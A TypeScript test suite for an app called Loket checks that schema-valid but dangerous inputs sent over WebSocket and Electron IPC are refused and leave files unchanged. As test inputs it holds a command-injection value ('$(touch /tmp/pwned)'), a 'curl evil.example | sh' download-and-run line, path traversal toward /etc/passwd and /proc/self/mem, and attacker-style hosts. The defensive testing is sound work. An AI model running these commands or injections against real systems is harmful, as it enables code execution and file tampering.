/**
 * "Valid but dangerous": inputs that pass every schema but aim somewhere they must not (the file
 * system, another host, another user's data), over both transports:
 * - the web host: a real runtime behind the real `startWebHost` on 127.0.0.1, a real WebSocket;
 * - Electron IPC: the real `registerCallHandlers` over a real runtime, reached through the
 *   preload's bridge (electron double), with main's folder dialog from `report-folder.ts`.
 * Every case runs in a fresh temp data folder with real files; each refusal must be clear (an
 * error code the renderer translates) and leave the data folder and the aimed-at files unchanged.
 */
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import WebSocket from 'ws';
import type { Envelope } from '../../contract/index.js';
import { FakeHidBus, honeywellScanner } from '../unit/scanner/hid-double.js';

vi.mock('electron', () => import('../electron/electron-double.js'));

const double = await import('../electron/electron-double.js');
const { createRuntime } = await import('../../main/runtime/runtime.js');
const { silentLogger } = await import('../../main/core/log.js');
const { registerCallHandlers } = await import('../../main/electron/ipc.js');
const { createBridge } = await import('../../main/electron/bridge.js');
const { reportFolderPicker } = await import('../../main/electron/report-folder.js');
const { startWebHost } = await import('../../main/web/server.js');
const { CALLBACK_PATH } = await import('../../main/auth/callback-page.js');

type Call = (name: string, input?: unknown) => Promise<Envelope<unknown>>;
interface Harness {
  call: Call;
  close(): Promise<void>;
}
interface StartOptions {
  env?: Record<string, string>;
  hid?: FakeHidBus;
}
type Transport = 'web' | 'electron';

async function startWeb(dataDir: string, opts: StartOptions): Promise<Harness> {
  const runtime = await createRuntime({
    transport: 'web',
    env: { LOKET_DATA_DIR: dataDir, ...opts.env },
    log: silentLogger,
    ...(opts.hid ? { hardware: { hid: opts.hid } } : {}),
  });
  const rendererDir = mkdtempSync(path.join(tmpdir(), 'loket-vbd-renderer-'));
  const host = await startWebHost({ dispatcher: runtime.dispatcher, bus: runtime.bus, rendererDir, log: silentLogger });
  runtime.login.attachTransport({ opens: 'popup', callbackUrl: () => `${host.origin}${CALLBACK_PATH}`, open: () => {} });
  const ws = new WebSocket(`ws://127.0.0.1:${host.port}/ws?token=${host.token}`, { origin: host.origin });
  const frames: Array<Record<string, unknown>> = [];
  const waiters: Array<() => void> = [];
  ws.on('message', (data) => {
    frames.push(JSON.parse((data as Buffer).toString('utf8')) as Record<string, unknown>);
    for (const w of waiters.splice(0)) w();
  });
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('error', reject);
  });
  let nextId = 1;
  return {
    async call(name, input) {
      const id = nextId++;
      ws.send(JSON.stringify({ id, name, input }));
      for (;;) {
        const i = frames.findIndex((f) => f.id === id);
        if (i >= 0) {
          const f = frames.splice(i, 1)[0]!;
          return ('result' in f ? f.result : { ok: false, error: f.error }) as Envelope<unknown>;
        }
        await new Promise<void>((r) => waiters.push(r));
      }
    },
    async close() {
      ws.close();
      await host.close();
      await runtime.close();
      rmSync(rendererDir, { recursive: true, force: true });
    },
  };
}

async function startElectron(dataDir: string, opts: StartOptions): Promise<Harness> {
  double.resetElectronDouble();
  const window = new double.BrowserWindow({});
  await window.loadURL('app://loket/index.html');
  type Win = Parameters<typeof reportFolderPicker>[0];
  type Dlg = Parameters<typeof reportFolderPicker>[1];
  const runtime = await createRuntime({
    transport: 'electron',
    env: { LOKET_DATA_DIR: dataDir, ...opts.env },
    log: silentLogger,
    pickReportFolder: reportFolderPicker((() => window) as unknown as Win, double.dialog as unknown as Dlg),
    ...(opts.hid ? { hardware: { hid: opts.hid } } : {}),
  });
  runtime.login.attachTransport({ opens: 'window', callbackUrl: () => 'http://127.0.0.1/loket-oauth-callback', open: () => {} });
  type Trusted = Parameters<typeof registerCallHandlers>[1];
  const unregister = registerCallHandlers(runtime.dispatcher, (() => window.webContents) as unknown as Trusted);
  double.ipcRenderer.attachTo(window.webContents);
  const bridge = createBridge(double.ipcRenderer);
  return {
    call: (name, input) => bridge.invoke(name, input),
    async close() {
      unregister();
      await runtime.close();
    },
  };
}

const start = (transport: Transport, dataDir: string, opts: StartOptions = {}) =>
  transport === 'web' ? startWeb(dataDir, opts) : startElectron(dataDir, opts);

/** Every file under `dir` (SQLite as its rows, WAL included; anything else by hash). */
function snapshot(dir: string): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const full = path.join(d, name);
      const rel = path.relative(dir, full);
      const st = lstatSync(full);
      if (st.isDirectory()) {
        if (name !== 'logs') walk(full);
      } else if (st.isSymbolicLink()) {
        out[rel] = 'symlink';
      } else if (/\.sqlite$/.test(name)) {
        const db = new Database(full, { readonly: true, fileMustExist: true });
        try {
          const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all() as Array<{ name: string }>;
          out[rel] = Object.fromEntries(tables.map((t) => [t.name, db.prepare(`SELECT * FROM "${t.name}"`).all()]));
        } finally {
          db.close();
        }
      } else if (!/-(wal|shm|journal)$/.test(name)) {
        out[rel] = createHash('sha256').update(readFileSync(full)).digest('hex');
      }
    }
  };
  walk(dir);
  return out;
}

function refused(answer: Envelope<unknown>, code: string | RegExp) {
  expect(answer.ok, JSON.stringify(answer).slice(0, 300)).toBe(false);
  if (answer.ok) throw new Error('unreachable');
  if (typeof code === 'string') expect(answer.error.code).toBe(code);
  else expect(answer.error.code).toMatch(code);
  expect(answer.error.message.length).toBeGreaterThan(0);
  return answer.error;
}

const fieldProblems = (error: { details?: unknown }) =>
  (error.details as { fields?: Array<{ field: string; problem: string }> } | undefined)?.fields ?? [];

/** An address of this machine that is not loopback: "another host" as far as a URL can tell. */
function nonLoopbackAddress(): string | undefined {
  for (const list of Object.values(networkInterfaces())) {
    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  }
  return undefined;
}

const SHELL_PROFILE = '# ~/.profile\nexport PATH="$HOME/bin:$PATH"\n';

describe.each<Transport>(['web', 'electron'])('valid but dangerous calls over the %s transport', (transport) => {
  let base: string;
  let dataDir: string;
  /** Files outside the data folder a hostile renderer would aim at. */
  let victims: string;
  let profile: string;
  let harness: Harness | undefined;

  beforeEach(() => {
    base = mkdtempSync(path.join(tmpdir(), `loket-vbd-${transport}-`));
    dataDir = path.join(base, 'data');
    victims = path.join(base, 'home');
    mkdirSync(victims, { recursive: true });
    profile = path.join(victims, '.profile');
    writeFileSync(profile, SHELL_PROFILE);
  });
  afterEach(async () => {
    await harness?.close();
    harness = undefined;
    rmSync(base, { recursive: true, force: true });
  });

  const writeSettings = (settings: Record<string, unknown>) => {
    mkdirSync(dataDir, { recursive: true });
    writeFileSync(path.join(dataDir, 'settings.json'), JSON.stringify({ schemaVersion: 1, ...settings }));
  };

  describe('file printers (finding 1)', () => {
    it('settings.update refuses a file printer aimed at a shell profile, the outbox or any non-port, and saves nothing', async () => {
      harness = await start(transport, dataDir);
      await harness.call('queue.status');
      const before = snapshot(base);
      const targets = [
        profile,
        path.join(dataDir, 'outbox.sqlite'),
        path.join(dataDir, 'settings.json'),
        '/dev/null',
        '/dev/usb/lp0/../../../etc/passwd',
        `/dev/usb/../..${profile}`,
        '/proc/self/mem',
      ];
      for (const target of targets) {
        const error = refused(
          await harness.call('settings.update', { printer: { url: `file://${target}`, venueName: '$(touch /tmp/pwned)' } }),
          'SETTINGS_INVALID',
        );
        expect(fieldProblems(error), target).toContainEqual({ field: 'printer.url', problem: 'printer-device' });
      }
      expect(snapshot(base)).toEqual(before);
      expect(readFileSync(profile, 'utf8')).toBe(SHELL_PROFILE);
    });

    it('settings.update refuses a TCP printer outside the local network and saves nothing; a LAN printer is saved', async () => {
      harness = await start(transport, dataDir);
      await harness.call('queue.status');
      const before = snapshot(base);
      // Receipts name the customer and the sale: they must not be sent to a host on the internet.
      for (const host of ['8.8.8.8', 'printer.example.com', '[2001:4860:4860::8888]', '100.64.0.1', '192.169.0.1']) {
        const error = refused(await harness.call('settings.update', { printer: { url: `tcp://${host}:9100` } }), 'SETTINGS_INVALID');
        expect(fieldProblems(error), host).toContainEqual({ field: 'printer.url', problem: 'printer-host' });
      }
      expect(snapshot(base)).toEqual(before);
      const saved = await harness.call('settings.update', { printer: { url: 'tcp://192.168.1.50:9100' } });
      expect(saved).toMatchObject({ ok: true, value: { settings: { printer: { url: 'tcp://192.168.1.50:9100' } } } });
    });

    it.each(['profile', 'outbox'])('printer.testPrint with a saved file printer aimed at the %s writes nothing to it', async (which) => {
      // The setting may come from an older Loket that accepted it, or a hand-edited file.
      const seed = await start(transport, dataDir);
      await seed.call('queue.status');
      await seed.close();
      const target = which === 'profile' ? profile : path.join(dataDir, 'outbox.sqlite');
      writeSettings({ printer: { url: `file://${target}`, venueName: 'curl evil.example | sh' } });
      const bytes = readFileSync(target);
      harness = await start(transport, dataDir);
      const answer = await harness.call('printer.testPrint');
      expect(answer).toMatchObject({ ok: true, value: { printed: false, reason: expect.stringMatching(/not a printer port/) as unknown } });
      expect((await harness.call('printer.status')) as Envelope<{ state: string }>).toMatchObject({ ok: true, value: { state: 'error' } });
      await harness.close();
      harness = undefined;
      expect(readFileSync(target).equals(bytes)).toBe(true);
    });

    it('does not follow a symlink, even in the printer test folder, and writes nothing through it', async () => {
      const printers = path.join(base, 'printers');
      mkdirSync(printers);
      symlinkSync(profile, path.join(printers, 'lp0'));
      writeSettings({ printer: { url: `file://${path.join(printers, 'lp0')}` } });
      harness = await start(transport, dataDir, { env: { LOKET_PRINTER_TEST_DIR: printers } });
      const answer = await harness.call('printer.testPrint');
      expect(answer).toMatchObject({ ok: true, value: { printed: false, reason: expect.stringMatching(/symbolic link/) as unknown } });
      expect(readFileSync(profile, 'utf8')).toBe(SHELL_PROFILE);
    });

    it('prints to a regular file only inside the test folder the environment names (positive control)', async () => {
      const printers = path.join(base, 'printers');
      mkdirSync(printers);
      const device = path.join(printers, 'receipts.bin');
      writeFileSync(device, '');
      writeSettings({ printer: { url: `file://${device}` } });
      harness = await start(transport, dataDir, { env: { LOKET_PRINTER_TEST_DIR: printers } });
      expect(await harness.call('printer.testPrint')).toMatchObject({ ok: true, value: { printed: true } });
      expect(readFileSync(device).length).toBeGreaterThan(0);
    });
  });

  describe('scanner path (finding 1)', () => {
    it('settings.update accepts only a HID path main enumerated', async () => {
      const hid = new FakeHidBus();
      hid.plug(honeywellScanner);
      harness = await start(transport, dataDir, { hid });
      await harness.call('queue.status');
      const before = snapshot(base);
      for (const hidPath of ['/dev/sda', profile, '/dev/hidraw99', `${honeywellScanner.path}/../../sda`]) {
        const error = refused(await harness.call('settings.update', { scanner: { hidPath } }), 'SETTINGS_INVALID');
        expect(fieldProblems(error), hidPath).toContainEqual({ field: 'scanner.hidPath', problem: 'hid-device' });
      }
      expect(snapshot(base)).toEqual(before);
      expect(await harness.call('settings.update', { scanner: { hidPath: honeywellScanner.path } })).toMatchObject({ ok: true });
    });
  });

  describe('UiTPAS address and login (finding 2)', () => {
    it.each(['http://uitpas.evil.example/uitid/rest', 'http://10.0.0.1/uitid/rest', 'http://acc.uitid.be/uitid/rest'])(
      'settings.update refuses the plain-http UiTPAS address %s',
      async (customUrl) => {
        harness = await start(transport, dataDir);
        await harness.call('queue.status');
        const before = snapshot(base);
        const error = refused(await harness.call('settings.update', { uitpas: { environment: 'custom', customUrl } }), 'SETTINGS_INVALID');
        expect(fieldProblems(error)).toContainEqual({ field: 'uitpas.customUrl', problem: 'https' });
        expect(snapshot(base)).toEqual(before);
      },
    );

    it.each(['customApiUrl', 'customSearchUrl', 'customIssuerUrl'] as const)(
      'settings.update refuses a plain-http API 4 address in %s (the bearer token and the UiTiD login need TLS)',
      async (field) => {
        harness = await start(transport, dataDir);
        await harness.call('queue.status');
        const before = snapshot(base);
        const https = {
          customApiUrl: 'https://api.example',
          customSearchUrl: 'https://search.example',
          customIssuerUrl: 'https://id.example',
        };
        const uitpas = { api: 'v4', environment: 'custom', ...https, [field]: 'http://uitpas.evil.example/x' };
        const error = refused(await harness.call('settings.update', { uitpas }), 'SETTINGS_INVALID');
        expect(fieldProblems(error)).toEqual([{ field: `uitpas.${field}`, problem: 'https' }]);
        expect(snapshot(base)).toEqual(before);
      },
    );

    it('a saved plain-http address on another host gets no signed request and no login page', async () => {
      const address = nonLoopbackAddress();
      if (!address) return; // no network interface besides loopback here: nothing can play "another host"
      const received: string[] = [];
      const server: Server = createServer((req, res) => {
        received.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
        res.end('oauth_token=t&oauth_token_secret=s&oauth_callback_confirmed=true');
      });
      await new Promise<void>((resolve) => server.listen(0, address, resolve));
      try {
        const port = (server.address() as { port: number }).port;
        writeSettings({
          demo: 'off',
          uitpas: {
            environment: 'custom',
            customUrl: `http://${address}:${port}/uitid/rest`,
            consumerKey: 'ck',
            userId: 'u1',
            counterKey: 'balie-1',
          },
        });
        harness = await start(transport, dataDir, { env: { LOKET_CONSUMER_SECRET: 'cs', LOKET_TOKEN: 'tok', LOKET_TOKEN_SECRET: 'ts' } });
        refused(await harness.call('counters.list'), /.+/);
        refused(await harness.call('card.lookup', { identification: '0930000150316' }), /.+/);
        refused(await harness.call('auth.login'), 'AUTH_LOGIN_ORIGIN');
        expect(received).toEqual([]);
      } finally {
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
    });
  });

  describe('report export folder (finding 3)', () => {
    it('report.exportCsv with a renderer-chosen folder', async () => {
      harness = await start(transport, dataDir);
      await harness.call('queue.status');
      const existing = path.join(base, 'existing');
      mkdirSync(existing);
      const before = snapshot(base);
      const answers = [];
      for (const folder of [existing, path.join(base, 'missing'), profile, '/etc', '/root']) {
        answers.push(await harness.call('report.exportCsv', { folder }));
      }
      if (transport === 'electron') {
        // Only main's dialog chooses: every typed folder gets the same refusal, before any file system access.
        for (const a of answers) refused(a, 'REPORT_FOLDER_DIALOG_ONLY');
        expect(new Set(answers.map((a) => JSON.stringify(a))).size).toBe(1);
        expect(double.dialog.openDialogs).toHaveLength(0);
        expect(snapshot(base)).toEqual(before);
        // The dialog path still works: what the operator picks is where the CSV goes.
        double.dialog.openDialogAnswer = { canceled: false, filePaths: [existing] };
        const saved = await harness.call('report.exportCsv', {});
        if (saved.ok) expect(readdirSync(existing).length).toBe(1);
        else expect(saved.error.code).toBe('REPORT_NO_COUNTER');
        expect(double.dialog.openDialogs).toHaveLength(1);
      } else {
        // The web host has no dialog; the refusal must not tell a missing folder from a file or an unwritable one.
        const refusals = answers.filter((a) => !a.ok).map((a) => JSON.stringify(a));
        const unusable = refusals.filter((r) => r.includes('REPORT_FOLDER_INVALID'));
        expect(new Set(unusable).size).toBeLessThanOrEqual(1);
        for (const r of refusals) expect(r).not.toMatch(/does not exist|is not a folder|cannot be written|\/etc|\/root|missing|\.profile/);
      }
    });
  });

  describe("another user's data and other endpoints", () => {
    it("counters.choose refuses a counter that is not the employee's own", async () => {
      harness = await start(transport, dataDir);
      await harness.call('queue.status');
      const before = snapshot(base);
      refused(await harness.call('counters.choose', { consumerKey: 'someone-elses-balie' }), /COUNTER_UNKNOWN|AUTH_LOGIN_REQUIRED/);
      expect(snapshot(base)).toEqual(before);
    });

    it.each(['..', '.', ' .. '])(
      'sale.sell refuses the activity id %j (a dot segment would move the signed buy elsewhere)',
      async (cdbid) => {
        harness = await start(transport, dataDir);
        await harness.call('queue.status');
        const before = snapshot(base);
        refused(await harness.call('sale.sell', { uitpasNumber: '0930000150316', cdbid }), 'INVALID_INPUT');
        expect(snapshot(base)).toEqual(before);
      },
    );
  });

  it('leaves no stray file next to the aimed-at targets', () => {
    expect(existsSync(path.join(victims, '.profile'))).toBe(true);
    expect(readdirSync(victims)).toEqual(['.profile']);
  });
});
